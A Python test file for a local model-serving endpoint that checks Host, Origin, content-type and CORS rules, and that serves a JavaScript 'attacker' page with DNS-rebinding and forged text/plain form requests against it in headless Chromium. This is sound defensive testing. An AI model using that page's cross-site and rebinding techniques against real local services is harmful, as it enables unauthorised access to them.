"""Requests of web pages are refused: names, origins and types of body, shown with a real browser where there is one."""

import contextlib
import http.server
import json
import os
import queue
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from device_agent.front.access import AccessRules
from device_agent.front.requests import RequestFailed
from tests.support.load_clients import INFER, REQUEST, connect, post
from tests.support.memfd_bundles import create_memfd_bundle, make_scale_model, start_front

HOST = b"localhost:8000"
PANEL = "https://panel.example.com"
BROWSERS = ("chromium", "chromium-browser", "google-chrome")


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    """Serve a model at an endpoint that also allows the name kws.local and one origin."""
    with (
        create_memfd_bundle(make_scale_model(2.0)) as bundle,
        start_front(allowed_hosts=("kws.local",), allowed_origins=(PANEL,)) as served,
    ):
        process = bundle.start_process(1)
        served.publish("toy", process)
        yield served.address
        process.stop()


def check(*headers: tuple[bytes, bytes], method: str = "POST", authority: bytes | None = None) -> int:
    """Return 200, or the status that a request with these fields fails with."""
    rules = AccessRules(("kws.local",), (PANEL,), is_unix=False)
    try:
        rules.check(method, headers, authority)
    except RequestFailed as error:
        return error.status
    return 200


OWN_HOSTS = ("localhost", "LOCALHOST:1", "127.0.0.1:8000", "127.1.2.3", "[::1]:8000", "kws.local.")
FOREIGN_HOSTS = (
    *("evil.example", "localhost.evil.example", "127.0.0.1.evil.example", "0.0.0.0", "10.0.0.1"),
    *("kws.local.evil", "xkws.local", "[::2]"),
)
MALFORMED_HOSTS = ("", "localhost/", "user@localhost", "local host", "localhost:", "localhost:x", "[::1")
OWN_ORIGINS = ("http://localhost:8000", "http://127.0.0.1:8000", "http://kws.local:8000", PANEL)
FOREIGN_ORIGINS = (
    *("http://evil.example", "null", "", "http://localhost:3000", "file://", PANEL + ":444", "http://localhost"),
    *("chrome-extension://localhost:8000", "http://localhost:8000.evil"),
)


@pytest.mark.parametrize(
    ("value", "status"),
    [
        *((name, 200) for name in OWN_HOSTS),
        *((name, 403) for name in FOREIGN_HOSTS),
        *((name, 400) for name in MALFORMED_HOSTS),
    ],
)
def test_host_is_a_name_of_this_machine_or_a_configured_one(value: str, status: int) -> None:
    assert check((b"host", value.encode())) == status


def test_none_or_two_hosts_are_400_and_an_absolute_url_counts() -> None:
    assert check() == 400
    assert check((b"host", HOST), (b"host", HOST)) == 400
    assert check((b"host", HOST), authority=b"evil.example") == 403
    assert check((b"host", HOST), authority=HOST) == 200


@pytest.mark.parametrize(
    ("origin", "status"), [*((text, 200) for text in OWN_ORIGINS), *((text, 403) for text in FOREIGN_ORIGINS)]
)
def test_an_origin_is_the_endpoints_own_or_a_configured_one(origin: str, status: int) -> None:
    for method in ("GET", "POST"):
        assert check((b"host", HOST), (b"origin", origin.encode()), method=method) == status


def test_a_cross_site_request_without_origin_is_refused_unless_it_is_a_visit() -> None:
    site, visit = (b"sec-fetch-site", b"cross-site"), (b"sec-fetch-mode", b"navigate")
    assert check((b"host", HOST), site, method="GET") == 403
    assert check((b"host", HOST), site, visit, method="GET") == 200
    assert check((b"host", HOST), site, visit) == 403
    assert check((b"host", HOST), (b"sec-fetch-site", b"same-origin"), method="GET") == 200


FORM = b"application/x-www-form-urlencoded"


@pytest.mark.parametrize(
    ("kind", "others", "status"),
    [
        (b"application/json", (), 200),
        (b"application/octet-stream", (), 200),
        (FORM, (), 200),
        (FORM, ((b"user-agent", b"curl/8.5.0"),), 200),
        (FORM, ((b"user-agent", b"Mozilla/5.0 (X11)"),), 415),
        (FORM, ((b"origin", b"http://localhost:8000"),), 415),
        (FORM, ((b"referer", b"http://localhost:8000/"),), 415),
        (FORM, ((b"sec-fetch-site", b"none"),), 415),
        (b"text/plain", (), 415),
        (b"Text/Plain; charset=utf-8", (), 415),
        (b"multipart/form-data; boundary=x", (), 415),
    ],
)
def test_types_of_body_that_a_page_can_send_are_refused(
    kind: bytes, others: tuple[tuple[bytes, bytes], ...], status: int
) -> None:
    assert check((b"host", HOST), (b"content-type", kind), *others) == status


def test_the_rules_hold_for_every_path_and_a_refused_request_says_what_helps(address: str) -> None:
    for path in ("/v2", "/metrics", "/v2/health/live", "/v2/models/toy"):
        connection = connect(address)
        connection.request("GET", path, headers={"Host": "evil.example"})
        response = connection.getresponse()
        assert response.status == 403
        assert b"serve.allowed_hosts" in response.read()
        connection.close()
    assert post(address, REQUEST, INFER, **{"Content-Type": "text/plain"})[0] == 415
    status, _, body = post(address, Origin="http://evil.example")
    assert status == 403
    assert b"serve.allowed_origins" in body
    assert post(address, REQUEST, INFER, **{"Content-Type": "application/x-www-form-urlencoded"})[0] == 200


def test_a_configured_origin_gets_the_cors_fields_and_no_other_does(address: str) -> None:
    status, fields, _ = post(address, REQUEST, INFER, **{"Origin": PANEL, "Content-Type": "application/json"})
    assert (status, fields["access-control-allow-origin"]) == (200, PANEL)
    assert "access-control-allow-origin" not in post(address)[1]
    for origin, expected in ((PANEL, 204), ("http://evil.example", 403)):
        connection = connect(address)
        connection.request("OPTIONS", INFER, headers={"Origin": origin, "Access-Control-Request-Method": "POST"})
        response = connection.getresponse()
        assert response.status == expected
        assert (response.getheader("access-control-allow-headers") is not None) == (expected == 204)
        connection.close()


PAGE = """<!doctype html><script>
const model = 'http://127.0.0.1:%d', rebound = 'http://rebound.example:%d', infer = '/v2/models/toy/infer';
const body = %s, log = {}, type = {'Content-Type': 'application/json'};
const post = (url, more) => fetch(url + infer, {method: 'POST', mode: 'no-cors', body, ...more});
const attempts = {
  json: () => post(model, {mode: 'cors', headers: type}),
  text: () => post(model, {}),
  blob: () => post(model, {body: new Blob([body])}),
  get: () => fetch(`${model}/metrics`, {mode: 'no-cors'}),
  rebound: () => post(rebound, {}),
  read: () => fetch(`${rebound}/metrics`).then(response => response.text()),
};
(async () => {
  for (const name in attempts) {
    try { const got = await attempts[name](); log[name] = String(got.type || got); }
    catch (error) { log[name] = 'refused'; }
  }
  const frame = document.createElement('iframe');
  frame.name = 'frame';
  const form = document.createElement('form'), field = document.createElement('input');
  Object.assign(form, {method: 'POST', action: model + infer, target: 'frame', enctype: 'text/plain'});
  field.name = body.slice(0, -1) + ',"id":"';
  field.value = '"}';
  form.append(field);
  document.documentElement.append(frame, form);
  frame.onload = () => fetch('/log', {method: 'POST', body: JSON.stringify(log)});
  form.submit();
})();
</script>"""


@contextlib.contextmanager
def serve_page(port: int) -> Iterator[tuple[str, "queue.Queue[bytes]"]]:
    """Serve the page of an attacker on another port; yield its URL, under a foreign name, and what the page reports."""
    reports: queue.Queue[bytes] = queue.Queue()
    page = (PAGE % (port, port, json.dumps(REQUEST.decode()))).encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def do_POST(self) -> None:
            reports.put(self.rfile.read(int(self.headers["Content-Length"])))
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *_: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://attacker.example:{server.server_port}/", reports
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.mark.skipif(not any(map(shutil.which, BROWSERS)), reason="no Chromium is installed")
def test_no_page_in_a_browser_reaches_the_model(address: str, tmp_path: Path) -> None:
    browser = next(path for path in map(shutil.which, BROWSERS) if path)
    port = int(address.rpartition(":")[2])
    before = _successes(address)
    with serve_page(port) as (url, reports):
        # every name resolves to this machine, as after DNS rebinding
        words = [
            *(browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"),
            *(f"--user-data-dir={tmp_path}", "--host-resolver-rules=MAP *.example 127.0.0.1", "--no-proxy-server"),
            url,
        ]
        # in a session of its own, so that none of the browser's processes outlives the test
        with subprocess.Popen(
            words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
        ) as process:
            try:
                log = json.loads(reports.get(timeout=120))
            finally:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(process.pid, signal.SIGKILL)
    assert log["json"] == "refused", "the preflight gets no CORS fields"
    assert log["read"] == "refused" or "airweights" not in log["read"]
    assert _successes(address) == before, "some request of the page reached the model"
    assert post(address)[0] == 200


def _successes(address: str) -> str:
    connection = connect(address)
    try:
        connection.request("GET", "/metrics")
        lines = connection.getresponse().read().decode().splitlines()
        return next((line for line in lines if line.startswith("airweights_requests_total") and "2xx" in line), "")
    finally:
        connection.close()
